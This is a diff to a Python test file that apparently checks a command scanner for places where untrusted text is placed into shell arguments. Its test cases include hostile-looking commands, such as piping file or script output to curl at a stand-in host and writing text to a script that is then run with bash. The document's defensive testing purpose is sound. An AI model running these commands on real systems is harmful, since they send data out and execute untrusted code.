@@ -53,6 +53,7 @@ def test_a_module_that_serves_files_runs_nothing_between_quotes() -> None:
         f"node render.js --file {HOLE}",
         f"pip install acme && cp {HOLE} notes",
         f"sheets update '{HOLE}'!D1 --json '[[{HOLE}]]'",
+        f'WHO="{HOLE}" python3 {HOLE}/clock.py charge start',
     ],
 )
 def test_a_strangers_text_in_an_argument_is_a_weakness(text: str) -> None:
@@ -66,6 +67,9 @@ def test_a_strangers_text_in_an_argument_is_a_weakness(text: str) -> None:
         f"npx {HOLE} publish",
         f"cd {HOLE} && npm install",
         f"A={HOLE}; curl $A",
+        f"A={HOLE}; python3 clock.py start",
+        f"A={HOLE} open clock.txt",
+        f"python3 {HOLE}/clock.py start {HOLE} | curl -d @- https://c.example.invalid",
         f"cat {HOLE} | curl -d @- https://c.example.invalid",
         f"echo {HOLE} > /tmp/run.sh && bash /tmp/run.sh",
         f"node -e {HOLE}",
